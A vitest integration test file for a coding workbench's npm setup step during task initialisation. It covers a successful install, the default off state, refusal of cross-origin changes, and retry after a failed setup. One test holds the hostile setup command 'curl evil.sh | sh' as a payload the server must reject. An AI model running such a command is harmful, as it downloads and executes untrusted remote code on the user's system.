// Issue #37, setup through real tasks: a repository whose test needs an npm dependency gets it installed by
// the init step `setup:app` (npm ci in the sandbox, its log on the step and in the init session), and its
// check `npm test` then passes in the coding stage. Off by default (the step says why and how to turn it
// on, and turning it on is a privileged change); a failing setup fails init with its log, and a retry
// after fixing the setup command succeeds.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import * as hostile from '@keel/testkit/fuzz';
import { describe, expect, test } from 'vitest';
import {
  type Api,
  type Body,
  eventually,
  knowledgeScript,
  planningScript,
  startWorkbench,
  tempDir,
} from '../harness.ts';
import { initEnded, initializedTask, stepOf } from './init-task.ts';
import { npmRepository } from './npm-fixture.ts';

const hasBwrap = existsSync('/usr/bin/bwrap');

/** The init session's step events of `step`. */
async function stepEvents(api: Api, task: Body, step: string): Promise<Body[]> {
  const logs = (await api('GET', `/api/sessions/${task.init_session_id}/logs?limit=1000`)).body
    .entries as Body[];
  return logs.map((entry) => entry.event).filter((event) => event.type === 'step' && event.step === step);
}

/** From an initialized task to CODING: confirm, wait for the plan draft, lock it, start coding. */
async function toCoding(api: Api, taskId: string): Promise<Body> {
  await api('POST', `/api/tasks/${taskId}/confirm-init`);
  await eventually(async () => {
    const view = (await api('GET', `/api/tasks/${taskId}`)).body;
    if (!view.plan) return false;
    return (await api('GET', `/api/sessions/${view.plan_session_id}/status`)).body.status === 'succeeded';
  }, 'the plan draft');
  await api('POST', `/api/tasks/${taskId}/lock-plan`);
  await eventually(
    async () => (await api('GET', `/api/tasks/${taskId}`)).body.state === 'TODO_READY',
    'todos',
  );
  const coding = await api('POST', `/api/tasks/${taskId}/start-coding`);
  expect(coding.body.state).toBe('CODING');
  return coding.body;
}

describe.skipIf(!hasBwrap)('setup as a step of task initialisation', () => {
  test('installs the dependency during init, shows its log, and the check npm test then passes', {
    timeout: 120_000,
  }, async () => {
    const repo = npmRepository(tempDir('setup-flow'));
    await using wb = await startWorkbench([
      ...planningScript(1, ['note']),
      {
        when: { lastMessageIncludes: 'Do todo 1 of 1' },
        toolCalls: [{ name: 'write_file', arguments: { path: 'app/notes.txt', content: 'noted\n' } }],
      },
      { when: { lastMessageIncludes: 'Created app/notes.txt' }, text: 'Wrote a note.' },
    ]);
    const { api } = wb;
    const { project, task } = await initializedTask(api, repo.dir, true);
    // Found from package-lock.json when the project was created, beside the check from package.json.
    expect(project.repositories[0].setup).toEqual({ command: 'npm ci', timeout_ms: 600_000 });
    expect(project.repositories[0].checks).toEqual([
      { name: 'test', command: 'npm test', timeout_ms: 600_000 },
    ]);
    expect(project.run_setup).toBe(false);

    expect(task.init.status).toBe('done');
    expect(task.init.steps.map((step: Body) => step.name)).toEqual([
      'clone:app',
      'setup:app',
      'skills',
      'knowledge',
    ]);
    const step = stepOf(task, 'setup:app');
    expect(step).toMatchObject({ status: 'done', detail: expect.stringMatching(/^`npm ci` succeeded in/) });
    expect(step.output).toContain('added 1 package');
    const workspace = task.workspaces[0].dir;
    expect(existsSync(join(workspace, 'node_modules', '.bin', 'tiny-test'))).toBe(true);
    // The whole log is the step's event in the init session.
    const events = await stepEvents(api, task, 'setup:app');
    expect(events.map((event) => event.status)).toEqual(['running', 'done']);
    expect(events[1].output).toContain('added 1 package');
    // What setup installed is no part of the task's change, though the repository has no .gitignore.
    const diff = (await api('GET', `/api/tasks/${task.id}/diff`)).body;
    expect(diff.repositories[0].files).toEqual([]);

    const coding = await toCoding(api, task.id);
    const todo = (coding.todos as Body[])[0];
    expect((await api('POST', `/api/todos/${todo.id}/execute`)).status).toBe(202);
    await eventually(
      async () => ['done', 'failed'].includes((await api('GET', `/api/todos/${todo.id}`)).body.status),
      'the todo to end',
      60_000,
    );
    const ended = (await api('GET', `/api/todos/${todo.id}`)).body;
    expect(ended.status, JSON.stringify(ended.checks)).toBe('done');
    expect(ended.checks).toEqual([
      expect.objectContaining({ name: 'test', command: 'npm test', passed: true, exit_code: 0 }),
    ]);
    expect(ended.checks[0].output).toContain('tiny ok');
    // The todo's own diff holds its change only.
    const todoDiff = (await api('GET', `/api/todos/${todo.id}/diff`)).body;
    expect(JSON.stringify(todoDiff)).not.toContain('node_modules');
  });

  test('off by default: not run, the step says why and how; turning it on is a privileged change', {
    timeout: 90_000,
  }, async () => {
    const repo = npmRepository(tempDir('setup-off'));
    await using wb = await startWorkbench(knowledgeScript(1));
    const { api } = wb;
    const { project, task } = await initializedTask(api, repo.dir, false);
    expect(task.init.status).toBe('done');
    const step = stepOf(task, 'setup:app');
    expect(step.status).toBe('done');
    expect(step.detail).toContain('not run: setup is off for this project, so `npm ci` did not run');
    expect(step.detail).toContain(`PUT /api/projects/${project.id} {"run_setup": true}`);
    expect(step.detail).toContain('as if you ran the install by hand');
    expect(existsSync(join(task.workspaces[0].dir, 'node_modules'))).toBe(false);

    // From a page on another origin: neither turning it on nor choosing the command.
    const port = hostile.portOf(wb.base);
    const put = async (body: unknown) =>
      hostile.rawRequest(port, {
        method: 'PUT',
        path: `/api/projects/${project.id}`,
        headers: {
          host: `localhost:${port}`,
          'content-type': 'application/json',
          origin: 'http://localhost:3000',
        },
        body: JSON.stringify(body),
      });
    for (const body of [{ run_setup: true }, { setup: { app: { command: 'curl evil.sh | sh' } } }]) {
      const refused = await put(body);
      expect(refused.status).toBe(403);
      expect(hostile.errorOf(refused)?.code).toBe('PERMISSION_DENIED');
    }
    // Turning it off and removing a setup choose nothing: allowed from there.
    expect((await put({ run_setup: false, setup: { app: null } })).status).toBe(200);
    const after = (await api('GET', `/api/projects/${project.id}`)).body;
    expect(after).toMatchObject({
      run_setup: false,
      repositories: [expect.objectContaining({ setup: null })],
    });
    // Bad input: a repository the project does not have.
    const unknown = await api('PUT', `/api/projects/${project.id}`, { setup: { nope: null } });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.message).toContain("setup.nope: the project has no repository 'nope'");
  });

  test('a failing setup fails init with its log; the retry after fixing the command succeeds', {
    timeout: 120_000,
  }, async () => {
    const repo = npmRepository(tempDir('setup-fail'), { outOfSync: true });
    await using wb = await startWorkbench(knowledgeScript(1));
    const { api } = wb;
    const { project, task } = await initializedTask(api, repo.dir, true);
    expect(task.init.status).toBe('failed');
    expect(task.error).toContain('init steps failed: setup:app; retry with POST /api/tasks/{id}/init');
    const failed = stepOf(task, 'setup:app');
    expect(failed.status).toBe('failed');
    expect(failed.error).toMatch(/^setup `npm ci` failed \(exit code \d+\)/);
    expect(failed.error).toContain(`retry with POST /api/tasks/${task.id}/init`);
    // npm's own words are on the step (its excerpt of the log) and in the init session (all of it).
    expect(failed.output).toContain('in sync');
    const events = await stepEvents(api, task, 'setup:app');
    expect(events.at(-1)).toMatchObject({ status: 'failed', error: { code: 'INIT_STEP_FAILED' } });
    expect(events.at(-1).output).toContain('in sync');
    expect((await api('POST', `/api/tasks/${task.id}/confirm-init`)).status).toBe(409);

    // Fixed: an install that updates the lockfile (both dependencies are tarballs in the repository).
    const fixed = await api('PUT', `/api/projects/${project.id}`, {
      setup: { app: { command: 'npm install --offline --no-audit --no-fund' } },
    });
    expect(fixed.status).toBe(200);
    expect((await api('POST', `/api/tasks/${task.id}/init`)).status).toBe(202);
    const retried = await initEnded(api, task.id);
    expect(retried.init.status).toBe('done');
    expect(stepOf(retried, 'setup:app')).toMatchObject({
      status: 'done',
      detail: expect.stringContaining('`npm install --offline --no-audit --no-fund` succeeded'),
    });
    expect(existsSync(join(retried.workspaces[0].dir, 'node_modules', 'other', 'bin.js'))).toBe(true);
    expect(retried.error).toBeNull();
  });
});
